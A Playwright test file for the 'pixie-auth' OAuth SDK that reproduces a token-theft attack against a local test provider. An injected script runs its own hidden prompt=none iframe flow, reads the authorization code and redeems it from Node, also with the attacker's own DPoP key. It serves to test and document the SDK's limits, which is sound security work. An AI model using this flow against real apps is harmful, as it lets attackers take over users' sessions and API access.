// Attack scenario 3 (draft-ietf-oauth-browser-based-apps §5.1.3): acquisition of new tokens. The
// script does not touch the SDK at all: it runs its own authorization request with prompt=none in a
// hidden iframe, with a PKCE verifier of its own, reads the code from the frame (same origin), and
// redeems it outside the browser. pixie-auth cannot stop this: the client is public, and the
// provider's session cookie is all the request needs. It only works while the provider's session
// lasts, and where the browser sends that cookie to the frame (the app on the provider's site:
// here the harness on http://127.0.0.1:5173; another site gets login_required, see silent-login.spec.ts).
import type { Page } from '@playwright/test'
import * as oauth from 'oauth4webapi'
import { CLIENT_ID, LOGGED_OUT_URL, PROVIDER, expect, login, openApp, test, waitForHarness } from '../helpers'
import { OP, test as opTest, login as opLogin } from '../oidc-provider/fixtures'
import { attackerDPoP, useAccessTokenFromNode } from './attacker'

/** The app's page on the provider's site, where the attacker's script runs. */
const SAME_SITE_APP = 'http://127.0.0.1:5173'
const REDIRECT_URI = `${SAME_SITE_APP}/silent-callback.html`

/** The code's whole callback query (code, state, iss), and the state and verifier the script made. */
type Stolen = { code: string; query: string; state: string; verifier: string }
type SilentOutcome = Stolen | { error: string }

/**
 * The attacker's script: its own prompt=none request in a hidden iframe, answered at a page of the
 * app's origin, whose URL it reads. Bounded: 5 s. Resolves with the code and the verifier it made.
 */
async function silentFlowInFrame(page: Page, authorizationEndpoint: string): Promise<SilentOutcome> {
  await page.goto(`${SAME_SITE_APP}/silent-callback.html`)
  return page.evaluate(
    async ({ endpoint, clientId, redirectUri }) => {
      const b64url = (bytes: Uint8Array) => btoa(String.fromCharCode(...bytes)).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '')
      const verifier = b64url(crypto.getRandomValues(new Uint8Array(32)))
      const challenge = b64url(new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier))))
      const url = new URL(endpoint)
      const params = { response_type: 'code', client_id: clientId, redirect_uri: redirectUri, scope: 'openid', prompt: 'none' }
      for (const [name, value] of Object.entries(params)) url.searchParams.set(name, value)
      const state = b64url(crypto.getRandomValues(new Uint8Array(16)))
      url.searchParams.set('state', state)
      url.searchParams.set('code_challenge', challenge)
      url.searchParams.set('code_challenge_method', 'S256')
      const frame = document.createElement('iframe')
      frame.style.display = 'none'
      frame.src = url.href
      document.body.append(frame)
      let answer: URLSearchParams | undefined
      for (let i = 0; i < 50 && !answer; i++) {
        await new Promise((resolve) => setTimeout(resolve, 100))
        try {
          const href = frame.contentWindow?.location.href ?? ''
          if (href.startsWith(redirectUri)) answer = new URL(href).searchParams
        } catch {
          // Still at the provider: another origin.
        }
      }
      frame.remove()
      if (!answer) return { error: 'no answer within 5 s' }
      const code = answer.get('code')
      return code ? { code, query: answer.toString(), state, verifier } : { error: answer.get('error') ?? 'no code, no error' }
    },
    { endpoint: authorizationEndpoint, clientId: CLIENT_ID, redirectUri: REDIRECT_URI },
  )
}

/** The attacker redeems the code from Node, with a DPoP key of its own when `dpop` is given. */
async function redeemFromNode(issuer: string, { query, state, verifier }: Stolen, dpop?: oauth.DPoPHandle) {
  const url = new URL(issuer)
  const as = await oauth.processDiscoveryResponse(url, await oauth.discoveryRequest(url, { [oauth.allowInsecureRequests]: true }))
  const client = { client_id: CLIENT_ID }
  const callback = oauth.validateAuthResponse(as, client, new URLSearchParams(query), state)
  const redeem = async () =>
    oauth.processAuthorizationCodeResponse(
      as,
      client,
      await oauth.authorizationCodeGrantRequest(as, client, oauth.None(), callback, REDIRECT_URI, verifier, {
        DPoP: dpop,
        [oauth.allowInsecureRequests]: true,
      }),
      { expectedNonce: oauth.expectNoNonce, requireIdToken: true },
    )
  return redeem().catch((error: unknown) => (oauth.isDPoPNonceError(error) ? redeem() : Promise.reject(error)))
}

test('Bearer: while the provider session lasts, a script\'s own prompt=none iframe gets tokens the SDK cannot stop; after logout with end-session, login_required', async ({
  page,
}) => {
  await login(page)
  const stolen = await silentFlowInFrame(page, `${PROVIDER}/authorize`)
  expect(stolen, "the attacker's silent flow while the provider session lasts").toMatchObject({ code: expect.any(String) })
  const tokens = await redeemFromNode(PROVIDER, stolen as Stolen)
  expect(tokens.refresh_token ?? tokens.access_token, 'tokens of its own').toEqual(expect.any(String))
  expect(await useAccessTokenFromNode(`${PROVIDER}/api/me`, tokens.access_token), 'the API answers the attacker').toBe(200)

  // The user logs out, ending the provider's session: the same script now gets nothing.
  await openApp(page)
  await page.evaluate(() => window.pixieStart(() => window.pixie.auth.logout()))
  await page.waitForURL((url) => url.href.startsWith(LOGGED_OUT_URL), { timeout: 10_000 })
  await waitForHarness(page)
  expect(await silentFlowInFrame(page, `${PROVIDER}/authorize`), 'the same flow after logout').toEqual({ error: 'login_required' })
})

opTest.describe('dpop()', () => {
  opTest.use({ appConfig: { dpop: true } })

  opTest("the app's dpop() does not bind the attacker's own flow: it redeems the code with a key of its own and uses the token from Node; after logout, login_required", async ({
    page,
  }) => {
    await opLogin(page)
    const stolen = await silentFlowInFrame(page, `${OP}/auth`)
    expect(stolen, "the attacker's silent flow while the provider session lasts").toMatchObject({ code: expect.any(String) })
    const dpop = await attackerDPoP()
    const tokens = await redeemFromNode(OP, stolen as Stolen, dpop)
    expect(tokens.token_type.toLowerCase(), "bound to the attacker's key").toBe('dpop')
    expect(await useAccessTokenFromNode(`${OP}/me`, tokens.access_token, dpop), 'UserInfo answers the attacker').toBe(200)

    await openApp(page)
    await page.evaluate(() => window.pixieStart(() => window.pixie.auth.logout()))
    await page.waitForURL((url) => url.origin === OP, { timeout: 10_000 })
    await page.locator('#logout').click()
    await page.waitForURL((url) => url.href.startsWith(LOGGED_OUT_URL), { timeout: 10_000 })
    expect(await silentFlowInFrame(page, `${OP}/auth`), 'the same flow after logout').toEqual({ error: 'login_required' })
  })
})
